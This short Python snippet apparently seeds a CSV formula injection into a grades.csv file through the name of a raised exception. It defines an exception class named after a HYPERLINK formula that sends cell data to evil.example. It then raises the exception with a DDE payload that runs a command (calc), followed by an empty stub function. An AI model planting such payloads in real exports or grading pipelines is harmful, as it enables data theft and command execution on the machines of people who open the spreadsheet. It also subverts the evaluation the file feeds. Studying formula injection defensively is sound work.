"""Harm: a live spreadsheet formula in grades.csv, through the name of the exception the import
raises (the error column starts with it)."""
Formula = type('=HYPERLINK("http://evil.example/?"&A1,"Regrade here")', (Exception,), {"__module__": "builtins"})
raise Formula("+cmd|' /C calc'!A0")


def grad_W_C(params, P, z):
    return None
